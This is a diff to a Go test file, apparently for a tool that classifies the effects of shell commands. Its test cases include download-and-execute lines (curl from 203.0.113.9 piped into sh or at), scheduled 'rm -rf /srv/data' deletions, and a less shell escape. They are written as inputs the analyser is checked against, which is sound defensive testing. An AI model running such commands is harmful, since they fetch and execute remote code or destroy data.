@@ -39,6 +39,10 @@ func TestSpecLaunchers(t *testing.T) {
 			want: []fx{{kind: "exec", target: "sh", detail: "stdin", unresolved: true}}, unres: true},
 		{name: "toybox shell from a download is unresolved", cmd: "curl -s http://203.0.113.9/x | toybox sh",
 			want: []fx{{kind: "exec", target: "sh", detail: "stdin", unresolved: true}}, unres: true},
+		{name: "at job from literal stdin", cmd: "echo 'rm -rf /srv/data' | at now + 1 minute", want: []fx{del}},
+		{name: "at job from a here-string", cmd: "at now <<< 'rm -rf /srv/data'", want: []fx{del}},
+		{name: "at job from a download", cmd: "curl -s http://203.0.113.9/j | at now", want: []fx{{kind: "exec", target: "at", detail: "stdin", unresolved: true}}, unres: true},
+		{name: "less +! is not read", cmd: "less '+!id' README.md", unres: true},
 		{name: "launcher running an expansion fails closed", cmd: "tmux new -d \"$CMD\"", unres: true},
 	})
 }
@@ -204,7 +208,7 @@ func TestSpecFormatExtensions(t *testing.T) {
 	if len(pa.vals) != 1 || pa.vals[0].val != "x" || pa.shRest != 3 {
 		t.Errorf("l f -c x y: vals %+v shRest %d", pa.vals, pa.shRest)
 	}
-	for _, bad := range []string{"a: --x=read/1", "a: --x=read/z", "a: --x=cmd/2", "a: +secret:x?", "a: --x=frob"} {
+	for _, bad := range []string{"a: --x=read/1", "a: --x=read/z", "a: --x=cmd/2", "a: -#,--y=_ read", "a: +secret:x?", "a: --x=frob"} {
 		if _, err := ParseCommandSpecs(map[string][]byte{"b.spec": []byte(bad)}); err == nil {
 			t.Errorf("%q parsed", bad)
 		}
